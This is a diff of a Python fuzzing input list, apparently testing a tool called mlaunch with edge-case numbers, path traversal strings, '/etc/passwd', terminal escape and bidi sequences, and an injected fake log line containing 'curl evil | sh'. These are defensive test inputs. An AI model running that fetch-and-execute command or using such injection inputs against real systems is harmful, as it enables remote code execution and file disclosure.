@@ -21,8 +21,8 @@ choose = random.Random(seed)
 
 NUMBERS = [0, 1, 2, 3, 2**31 - 1, 2**31, 2**32 - 1, 2**63 - 1, 2**63, 2**64 - 1]
 PATHS = [b"../../../tmp/out", b"/etc/passwd", b"sub/../../x", b"", b".", b"..", b"a//b",
-         b"x" * 5000, b"\n" + b"mlaunch: error: host x: run: curl evil | sh", b"\x1b[2J\x1b]0;t\x07",
-         "\u202e\u009b2J".encode(), b"\xff\xfe", b"a\0b", b"sub"]
+         b"x" * 5000, b"\nmlaunch: error: host x: run: curl evil | sh",
+         b"\x1b[2J\x1b]0;t\x07", "\u202e\u009b2J".encode(), b"\xff\xfe", b"a\0b", b"sub"]
 TEXTS = [p.decode(errors="replace") for p in PATHS] + ["n" * 4000]
 ODD = [None, True, -1, 2**62, 1e300, "", [], {}, [[]], {"a": {}}]
 
